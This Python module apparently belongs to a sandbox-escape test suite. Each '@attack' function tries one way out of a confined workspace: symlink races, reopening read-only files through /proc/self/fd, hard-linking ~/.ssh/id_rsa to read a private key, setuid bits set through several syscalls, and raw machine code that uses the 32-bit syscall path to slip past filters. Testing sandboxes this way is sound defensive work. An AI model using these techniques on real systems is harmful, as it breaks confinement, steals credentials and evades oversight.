"""Ways to files that lie outside, or that stay read-only inside."""

from __future__ import annotations

import ctypes
import fcntl
import mmap
import os
import signal
import socket
import stat
import struct
import subprocess
import time

from .registry import AT_FDCWD, World, attack, call, checked, leads, libc, put, text

EXCHANGE = 2
FOLLOW, EMPTY_PATH = 0x400, 0x1000
GET_FLAGS, SET_FLAGS, NO_ATIME, IMMUTABLE = 0x80086601, 0x40086602, 0x80, 0x10


@attack
def link_swapped_while_it_is_used(world: World) -> bool:
    """A second process turns a folder into a link to outside and back, as fast as it can."""
    os.makedirs("swap-real", exist_ok=True)
    end = time.monotonic() + world["race"]
    pid = os.fork()
    if pid == 0:
        while time.monotonic() < end:
            os.symlink(world["outside"], "swap-next")
            os.rename("swap-next", "swap")
            os.symlink("swap-real", "swap-next")
            os.rename("swap-next", "swap")
        os._exit(0)
    through = False
    while not through and time.monotonic() < end:
        try:
            fd = os.open("swap/swapped", os.O_CREAT | os.O_WRONLY, 0o600)
        except OSError:
            continue
        through = leads(fd, world["outside"])
        os.close(fd)
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    return through


@attack
def link_in_the_home_inside(world: World) -> bool:
    way = os.path.expanduser("~/way")
    os.symlink(world["outside"], way)
    return put(way + "/by-home")


@attack
def link_in_the_temporary_folder(world: World) -> bool:
    way = os.environ["TMPDIR"] + "/way"
    os.symlink(world["outside"], way)
    return put(way + "/by-temporary")


@attack
def link_that_was_there_before(world: World) -> bool:
    del world
    return put("earlier/by-earlier-link")


@attack
def dots_after_the_parent_moved(world: World) -> bool:
    os.makedirs("deep/er")
    fd = os.open("deep/er", os.O_RDONLY | os.O_DIRECTORY)
    os.rename("deep/er", "shallow")
    found = os.open("../../../outside/by-dots", os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=fd)
    return leads(found, world["outside"])


@attack
def folder_that_the_person_moves_away(world: World) -> bool:
    """Whoever stands in a folder goes with it; `..` is then somewhere else."""
    os.mkdir("moving")
    os.chdir("moving")
    for _ in range(400):
        if not os.path.lexists(world["workspace"] + "/moving"):
            return text("../file") != ""
        time.sleep(0.01)
    raise TimeoutError("nobody moved it")


@attack
def write_by_a_descriptor_that_reads(world: World) -> bool:
    fd = os.open(world["readable"] + "/data", os.O_RDONLY)
    again = os.open(f"/proc/self/fd/{fd}", os.O_RDWR)
    return leads(again, world["readable"])


@attack
def second_name_for_what_is_read(world: World) -> bool:
    fd = os.open(world["readable"] + "/data", os.O_RDONLY)
    call("linkat", AT_FDCWD, f"/proc/self/fd/{fd}".encode(), AT_FDCWD, b"second-name", FOLLOW)
    return put("second-name", "a")


@attack
def second_name_for_a_key(world: World) -> bool:
    os.link(world["person"] + "/.ssh/id_rsa", "taken-key")
    try:
        return "SECRET" in text("taken-key")
    finally:
        os.unlink("taken-key")


@attack
def key_by_a_nameless_descriptor(world: World) -> bool:
    fd = os.open(world["person"] + "/.ssh/id_rsa", os.O_PATH)
    return "SECRET" in text(f"/proc/self/fd/{fd}")


@attack
def exchange_with_a_file_outside(world: World) -> bool:
    put("exchanged")
    there = os.fsencode(world["outside"] + "/file")
    call("renameat2", AT_FDCWD, b"exchanged", AT_FDCWD, there, EXCHANGE)
    call("renameat2", AT_FDCWD, b"exchanged", AT_FDCWD, there, EXCHANGE)
    return True


@attack
def nameless_file_named_outside(world: World) -> bool:
    fd = os.open(".", os.O_TMPFILE | os.O_RDWR, 0o600)
    name = os.fsencode(world["outside"] + "/by-nameless")
    call("linkat", AT_FDCWD, f"/proc/self/fd/{fd}".encode(), AT_FDCWD, name, FOLLOW)
    return True


@attack
def pipe_made_outside(world: World) -> bool:
    os.mkfifo(world["outside"] + "/by-pipe")
    return True


@attack
def socket_made_outside(world: World) -> bool:
    os.chdir(world["outside"])
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("by-socket")
    return True


@attack
def program_that_lies_outside(world: World) -> bool:
    done = subprocess.run([world["outside"] + "/tool"], capture_output=True, text=True, check=True)
    return done.stdout == "ran\n"


@attack
def working_folder_moved_as_a_whole(world: World) -> bool:
    away = world["workspace"] + " moved"
    os.rename(world["workspace"], away)
    os.rename(away, world["workspace"])
    return True


@attack
def environment_that_later_programs_load(world: World) -> bool:
    return put(world["readable"] + "/sitecustomize.py")


@attack
def git_settings_by_a_second_name(world: World) -> bool:
    del world
    os.link(".git/config", "other-name")
    try:
        return put("other-name", "a")
    finally:
        os.unlink("other-name")


@attack
def git_settings_by_a_way_through_proc(world: World) -> bool:
    del world
    return put("/proc/self/cwd/.git/config", "a")


@attack
def git_settings_replaced(world: World) -> bool:
    del world
    put("new-config")
    os.rename("new-config", ".git/config")
    return True


@attack
def settings_of_the_tool_exchanged(world: World) -> bool:
    del world
    os.mkdir("mine")
    call("renameat2", AT_FDCWD, b".interpreter", AT_FDCWD, b"mine", EXCHANGE)
    call("renameat2", AT_FDCWD, b".interpreter", AT_FDCWD, b"mine", EXCHANGE)
    return True


@attack
def times_of_a_file_outside(world: World) -> bool:
    os.utime(world["outside"] + "/file", (1, 1))
    return True


@attack
def label_on_a_file_outside(world: World) -> bool:
    os.setxattr(world["outside"] + "/file", "user.attack", b"1")
    return True


@attack
def flags_of_a_file_that_is_only_read(world: World) -> bool:
    fd = os.open(world["readable"] + "/data", os.O_RDONLY)
    return with_flag(fd, NO_ATIME)


def with_flag(fd: int, flag: int) -> bool:
    old = struct.unpack("i", fcntl.ioctl(fd, GET_FLAGS, struct.pack("i", 0)))[0]
    fcntl.ioctl(fd, SET_FLAGS, struct.pack("i", old | flag))
    fcntl.ioctl(fd, SET_FLAGS, struct.pack("i", old))
    return True


@attack
def watch_a_folder_outside(world: World) -> bool:
    """Names that come and go there, while programs of the person work in it."""
    fd = checked(libc.inotify_init())
    return checked(libc.inotify_add_watch(fd, os.fsencode(world["outside"]), 0x100)) >= 0


@attack
def powers_in_a_file(world: World) -> bool:
    """A program with file capabilities, which would have them outside as well."""
    del world
    put("powerful")
    everything = struct.pack("<IIIII", 0x02000001, 0xFFFFFFFF, 0, 0x1FF, 0)
    os.setxattr("powerful", "security.capability", everything)
    return True


@attack
def device_in_the_working_folder(world: World) -> bool:
    del world
    os.mknod("device", stat.S_IFCHR | 0o666, os.makedev(1, 5))
    return os.open("device", os.O_RDONLY) >= 0


@attack
def file_that_cannot_be_removed(world: World) -> bool:
    del world
    put("eternal")
    return with_flag(os.open("eternal", os.O_RDONLY), IMMUTABLE)


@attack
def file_given_to_somebody_else(world: World) -> bool:
    del world
    put("given")
    os.chown("given", 12, -1)
    return True


@attack
def lent_rights_by_openat2(world: World) -> bool:
    del world
    how = ctypes.create_string_buffer(struct.pack("=QQQ", os.O_CREAT | os.O_WRONLY, 0o4755, 0), 24)
    return lent(call("openat2", AT_FDCWD, b"lent-openat2", how, 24))


@attack
def lent_rights_by_fchmodat2(world: World) -> bool:
    del world
    put("lent-fchmodat2")
    call("fchmodat2", AT_FDCWD, b"lent-fchmodat2", 0o4755, 0)
    return lent(os.open("lent-fchmodat2", os.O_RDONLY))


@attack
def lent_rights_by_creat(world: World) -> bool:
    del world
    return lent(call("creat", b"lent-creat", 0o2755 | stat.S_ISUID))


@attack
def lent_rights_by_a_node(world: World) -> bool:
    del world
    call("mknodat", AT_FDCWD, b"lent-node", stat.S_IFREG | 0o4755, 0)
    return lent(os.open("lent-node", os.O_RDONLY))


@attack
def lent_rights_with_high_bits(world: World) -> bool:
    """The kernel looks at half of the word; a filter may look at all of it."""
    del world
    put("lent-high")
    call("chmod", b"lent-high", 0o4755 | 1 << 32)
    return lent(os.open("lent-high", os.O_RDONLY))


def lent(fd: int) -> bool:
    return bool(os.fstat(fd).st_mode & 0o4000)


@attack
def lent_rights_by_the_32_bit_door(world: World) -> bool:
    """Machine code that asks the kernel the old way, where calls have other numbers: chmod is 15."""
    del world
    put("lent-32")
    low = 0x40  # MAP_32BIT: the old way takes addresses of four bytes
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | low, mmap.PROT_READ | mmap.PROT_WRITE | 4)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    name = b"lent-32\0"
    page[2048 : 2048 + len(name)] = name
    # push rbx; mov eax, 15; mov ebx, name; mov ecx, 04755; int 0x80; pop rbx; ret
    code = b"\x53\xb8" + struct.pack("<I", 15) + b"\xbb" + struct.pack("<I", address + 2048)
    code += b"\xb9" + struct.pack("<I", 0o4755) + b"\xcd\x80\x5b\xc3"
    page[: len(code)] = code
    ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    return lent(os.open("lent-32", os.O_RDONLY))
